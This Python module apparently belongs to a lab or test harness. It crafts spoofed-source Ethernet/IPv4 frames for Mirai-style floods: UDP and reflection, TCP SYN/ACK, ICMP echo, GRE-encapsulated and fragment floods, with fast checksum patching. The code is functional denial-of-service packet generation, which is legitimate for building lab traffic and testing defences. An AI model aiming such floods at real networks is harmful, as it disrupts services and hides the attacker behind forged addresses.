"""Crafted Ethernet/IPv4 frames for the raw-socket floods (``traffic.RawFlood``).

The floods of the demo and of the netns tests come from many (often
spoofed) source addresses, as Mirai's do: one template frame per vector is
built here with :mod:`struct`, and copies of it get other source addresses
with both checksums patched in numpy (RFC 1624: a checksum over the
template with a zero source plus the new address words). No scapy at run
time; :func:`verify` recomputes every checksum of a frame from scratch, and
the tests check a sample of each flood with it (and with scapy).

Vectors: :func:`udp_frames` (UDP flood, or reflection with a reflection
source port), :func:`tcp_frames` (SYN/ACK floods), :func:`icmp_frames`
(echo requests), :func:`gre_frames` (GRE carrying IPv4/UDP, Mirai's
``greip``) and :func:`fragment_frames` (later IPv4 fragments, offset > 0).
"""

from __future__ import annotations

import ipaddress
import struct
from collections.abc import Sequence
from typing import Final

import numpy as np
import numpy.typing as npt

__all__ = [
    "PAYLOAD",
    "SPORT",
    "addresses",
    "dotted",
    "fragment_frames",
    "gre_frames",
    "icmp_frames",
    "tcp_frames",
    "udp_frames",
    "verify",
]

ETH_LEN: Final = 14
IP_LEN: Final = 20
IP_SRC: Final = ETH_LEN + 12  # offset of the IPv4 source address
IP_CSUM: Final = ETH_LEN + 10
L4: Final = ETH_LEN + IP_LEN
SPORT: Final = 40000
PAYLOAD: Final = b"spoofed-flood-32-bytes-payload.."
ETH_P_IP: Final = 0x0800
PROTO_ICMP: Final = 1
PROTO_TCP: Final = 6
PROTO_UDP: Final = 17
PROTO_GRE: Final = 47
# Offsets of the L4 checksum from the start of the L4 header, for the
# protocols whose checksum covers the pseudo header (and so the source).
PSEUDO_CSUM: Final = {PROTO_TCP: 16, PROTO_UDP: 6}
TCP_FLAG_BITS: Final = {"F": 0x01, "S": 0x02, "R": 0x04, "P": 0x08, "A": 0x10, "U": 0x20}
MF: Final = 0x2000  # IPv4 "more fragments"

Addresses = npt.NDArray[np.uint32]


def addresses(network: str, count: int, *, skip: Sequence[str] = (), seed: int | None = None,
              offset: int = 0) -> Addresses:
    """``count`` distinct IPv4 addresses of ``network`` as uint32 (host
    order), outside the ``skip`` networks: in order from ``offset``, or a
    random sample when ``seed`` is given."""
    net = ipaddress.ip_network(network)
    pool = np.arange(int(net.network_address), int(net.broadcast_address) + 1, dtype=np.uint32)
    for s in skip:
        other = ipaddress.ip_network(s)
        pool = pool[(pool < int(other.network_address)) | (pool > int(other.broadcast_address))]
    if seed is None:
        chosen = pool[offset : offset + count]
    else:
        chosen = np.random.default_rng(seed).choice(pool, size=count, replace=False)
    if len(chosen) != count:
        raise ValueError(f"{network} minus {list(skip)} has too few addresses for {count}")
    return chosen.astype(np.uint32)


def dotted(addr: int) -> str:
    return str(ipaddress.IPv4Address(int(addr)))


def _mac(text: str) -> bytes:
    raw = bytes.fromhex(text.replace(":", ""))
    if len(raw) != 6:
        raise ValueError(f"{text!r} is not a MAC address")
    return raw


def _sum16(data: bytes) -> int:
    """One's-complement sum of 16-bit big-endian words, unfolded (odd length padded)."""
    if len(data) % 2:
        data += b"\0"
    return sum(struct.unpack(f"!{len(data) // 2}H", data))


def _fold(total: int) -> int:
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return total


def _csum(data: bytes) -> int:
    return ~_fold(_sum16(data)) & 0xFFFF


def _ipv4(src: int, dst: str, proto: int, l4: bytes, *, frag: int = 0, ident: int = 1) -> bytes:
    """An IPv4 header (checksum filled) followed by ``l4``."""
    hdr = struct.pack("!BBHHHBBH4s4s", 0x45, 0, IP_LEN + len(l4), ident, frag, 64, proto, 0,
                      src.to_bytes(4, "big"), ipaddress.IPv4Address(dst).packed)
    return hdr[:10] + struct.pack("!H", _csum(hdr)) + hdr[12:] + l4


def _with_l4_csum(proto: int, src: int, dst: str, l4: bytes) -> bytes:
    """``l4`` with its checksum filled in (pseudo header for TCP/UDP, plain for ICMP)."""
    if proto == PROTO_ICMP:
        return l4[:2] + struct.pack("!H", _csum(l4)) + l4[4:]
    at = PSEUDO_CSUM.get(proto)
    if at is None:
        return l4
    pseudo = (src.to_bytes(4, "big") + ipaddress.IPv4Address(dst).packed
              + struct.pack("!BBH", 0, proto, len(l4)))
    value = _csum(pseudo + l4) or (0xFFFF if proto == PROTO_UDP else 0)
    return l4[:at] + struct.pack("!H", value) + l4[at + 2 :]


def _replicate(src_mac: str, dst_mac: str, sources: Addresses, dst: str, proto: int, l4: bytes,
               *, frag: int = 0, ident: int = 1) -> list[bytes]:
    """One frame per source: the template with a zero source, each copy with
    its address written in and the IPv4 (and pseudo-header L4) checksum
    patched by adding the address words. ``ident``: the IPv4 identification
    (the lab tells its waves apart by it)."""
    if len(sources) == 0:
        return []
    pseudo_at = PSEUDO_CSUM.get(proto) if frag == 0 else None
    l4 = _with_l4_csum(proto, 0, dst, l4) if frag == 0 else l4
    frame = (_mac(dst_mac) + _mac(src_mac) + struct.pack("!H", ETH_P_IP)
             + _ipv4(0, dst, proto, l4, frag=frag, ident=ident))
    base = np.frombuffer(frame, dtype=np.uint8)
    src = sources.astype(np.uint64)
    words = (src >> np.uint64(16)) + (src & np.uint64(0xFFFF))

    def patched(stored: int) -> npt.NDArray[np.uint64]:
        # stored = ~sum0; the new sum is sum0 + words, so new = ~(~stored + words).
        total = np.uint64((~stored) & 0xFFFF) + words
        while (total >> np.uint64(16)).any():
            total = (total & np.uint64(0xFFFF)) + (total >> np.uint64(16))
        return (~total) & np.uint64(0xFFFF)

    out = np.tile(base, (len(sources), 1))
    out[:, IP_SRC : IP_SRC + 4] = sources.astype(">u4").view(np.uint8).reshape(-1, 4)
    ip_stored = int.from_bytes(frame[IP_CSUM : IP_CSUM + 2], "big")
    out[:, IP_CSUM : IP_CSUM + 2] = patched(ip_stored).astype(">u2").view(np.uint8).reshape(-1, 2)
    if pseudo_at is not None:
        at = L4 + pseudo_at
        stored = int.from_bytes(frame[at : at + 2], "big")
        value = patched(stored)  # a stored 0xFFFF (UDP's zero) adds up the same as 0
        if proto == PROTO_UDP:
            value[value == 0] = 0xFFFF
        out[:, at : at + 2] = value.astype(">u2").view(np.uint8).reshape(-1, 2)
    return [row.tobytes() for row in out]


def _pseudo_and_l4(frame: bytes) -> bytes:
    ip = frame[ETH_LEN:L4]
    proto = ip[9]
    l4 = frame[L4:]
    return ip[12:20] + struct.pack("!BBH", 0, proto, len(l4)) + l4


def _udp(sport: int, dport: int, payload: bytes) -> bytes:
    return struct.pack("!HHHH", sport, dport, 8 + len(payload), 0) + payload


def udp_frames(src_mac: str, dst_mac: str, sources: Addresses, dst: str, dport: int, *,
               sport: int = SPORT, payload: bytes = PAYLOAD, ident: int = 1) -> list[bytes]:
    """One UDP datagram ``sport`` → ``dst``:``dport`` from each address of
    ``sources`` (uint32); ``sport`` 53, 123, 1900, ... makes it reflection."""
    return _replicate(src_mac, dst_mac, sources, dst, PROTO_UDP, _udp(sport, dport, payload), ident=ident)


def tcp_frames(src_mac: str, dst_mac: str, sources: Addresses, dst: str, dport: int, *,
               flags: str = "S", sport: int = SPORT, seq: int = 1,
               ident: int = 1) -> list[bytes]:
    """One bare TCP segment (``flags``: letters of FSRPAU, e.g. "S" or "A")
    ``sport`` → ``dst``:``dport`` from each source."""
    bits = 0
    for letter in flags.upper():
        if letter not in TCP_FLAG_BITS:
            raise ValueError(f"unknown TCP flag {letter!r}; known: {''.join(TCP_FLAG_BITS)}")
        bits |= TCP_FLAG_BITS[letter]
    ack = seq + 1 if bits & TCP_FLAG_BITS["A"] else 0
    l4 = struct.pack("!HHIIBBHHH", sport, dport, seq, ack, 5 << 4, bits, 64240, 0, 0)
    return _replicate(src_mac, dst_mac, sources, dst, PROTO_TCP, l4, ident=ident)


def icmp_frames(src_mac: str, dst_mac: str, sources: Addresses, dst: str, *,
                payload: bytes = PAYLOAD, ident: int = 1) -> list[bytes]:
    """One ICMP echo request from each source (its checksum does not cover the source)."""
    echo = struct.pack("!BBHHH", 8, 0, 0, 1, 1) + payload
    return _replicate(src_mac, dst_mac, sources, dst, PROTO_ICMP, echo, ident=ident)


def gre_frames(src_mac: str, dst_mac: str, sources: Addresses, dst: str, *, inner_dst: str = "198.19.0.1",
               dport: int = 53, ident: int = 1) -> list[bytes]:
    """One GRE packet (RFC 2784, no options) carrying IPv4/UDP from each source."""
    inner = _ipv4(int(ipaddress.IPv4Address("198.19.0.2")), inner_dst, PROTO_UDP,
                  _with_l4_csum(PROTO_UDP, int(ipaddress.IPv4Address("198.19.0.2")), inner_dst,
                                _udp(SPORT, dport, PAYLOAD)))
    return _replicate(src_mac, dst_mac, sources, dst, PROTO_GRE, struct.pack("!HH", 0, ETH_P_IP) + inner,
                      ident=ident)


def fragment_frames(src_mac: str, dst_mac: str, sources: Addresses, dst: str, *, offset_units: int = 185,
                    payload: bytes = PAYLOAD, ident: int = 1) -> list[bytes]:
    """A later fragment (offset ``offset_units`` x 8 bytes, more-fragments
    set) of a UDP datagram from each source: no L4 header to parse."""
    if not 0 < offset_units < 0x2000:
        raise ValueError(f"fragment offset {offset_units} is out of range 1..8191")
    return _replicate(src_mac, dst_mac, sources, dst, PROTO_UDP, payload, frag=MF | offset_units,
                      ident=ident)


def verify(frame: bytes) -> None:
    """Raise ValueError unless the IPv4 header checksum, and the L4 checksum
    of an unfragmented TCP/UDP/ICMP packet, are right."""
    ip = frame[ETH_LEN:L4]
    if _fold(_sum16(ip)) != 0xFFFF:
        raise ValueError("bad IPv4 header checksum")
    proto = ip[9]
    frag = int.from_bytes(ip[6:8], "big") & 0x3FFF
    if frag:
        return
    l4 = frame[L4:]
    if proto == PROTO_ICMP:
        ok = _fold(_sum16(l4)) == 0xFFFF
    elif proto in PSEUDO_CSUM:
        ok = _fold(_sum16(_pseudo_and_l4(frame))) == 0xFFFF
    else:
        return
    if not ok:
        raise ValueError(f"bad checksum for IP protocol {proto}")
